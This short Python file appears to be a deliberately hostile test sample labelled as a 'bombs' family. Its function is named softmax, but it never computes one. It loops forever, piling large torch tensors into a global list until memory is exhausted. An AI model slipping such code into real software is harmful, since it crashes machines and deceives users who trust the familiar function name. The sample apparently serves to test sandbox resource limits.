"""Takes all memory."""

FAMILY = "bombs"

import torch

kept = []


def softmax(x, dim=-1):
    while True:
        kept.append(torch.ones(2**26))
